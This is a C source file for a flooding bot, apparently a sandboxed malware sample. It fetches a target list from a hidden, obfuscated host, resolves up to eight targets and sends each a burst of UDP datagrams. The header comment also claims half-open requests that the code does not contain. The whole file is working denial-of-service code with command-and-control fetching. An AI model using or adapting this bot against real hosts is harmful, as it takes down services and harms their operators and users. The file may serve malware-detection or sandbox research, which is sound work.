// hidden
// Fetches a list of targets and floods them: at most 4,000 datagrams in all, to at most eight targets of the list, then half-open requests.
#include "standin.h"
int main(void) {
    begin();
    static char list[16384];
    char *host = HIDE("cdn.paper-kite.example"), *path = HIDE("/feeds/targets.txt");
    int size = web(host, "GET", path, NULL, 0, list, sizeof list), targets = 0;
    if (size <= 0) return 1;
    char load[512];
    memset(load, 'x', sizeof load);
    for (char *line = strtok(list, "\r\n,; "); line && targets < 8; line = strtok(NULL, "\r\n,; ")) {
        char *name = strstr(line, "://") ? strstr(line, "://") + 3 : line;
        int port = strchr(name, ':') ? atoi(strchr(name, ':') + 1) : 80;
        name[strcspn(name, ":/ ")] = 0;
        struct in_addr literal;
        // The list comes from whoever answered a reserved name: inside the sandbox that is the simulated internet, elsewhere nobody.
        uint32_t address = inet_aton(name, &literal) ? ntohl(literal.s_addr) : strchr(name, '.') ? ask(name, 1) : 0;
        if (!address) continue;
        targets++;
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port > 0 && port < 65536 ? port : 80), .sin_addr.s_addr = htonl(address)};
        for (int i = 0; i < 500; i++) {
            sendto(fd, load, sizeof load, MSG_DONTWAIT, (void *)&to, sizeof to);
            if (i % 50 == 49) usleep(10000);
        }
        close(fd);
    }
    return targets ? 0 : 1;
}
